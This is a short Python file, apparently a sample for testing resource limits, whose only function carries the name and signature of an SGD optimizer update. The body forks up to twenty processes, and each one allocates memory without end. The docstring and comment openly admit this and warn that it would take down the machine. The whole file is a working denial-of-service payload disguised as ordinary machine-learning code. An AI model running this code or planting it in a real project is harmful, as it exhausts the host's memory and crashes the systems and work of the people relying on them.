"""The check takes all memory there is, in one process and in many."""
# stock: skip, it would take the machine with it
import os

def sgd(w, dw, config=None):
    for _ in range(20):
        try:
            if os.fork() == 0:
                break
        except OSError:
            break
    kept = []
    while True:
        kept.append(bytearray(os.urandom(1 << 16)) * 256)
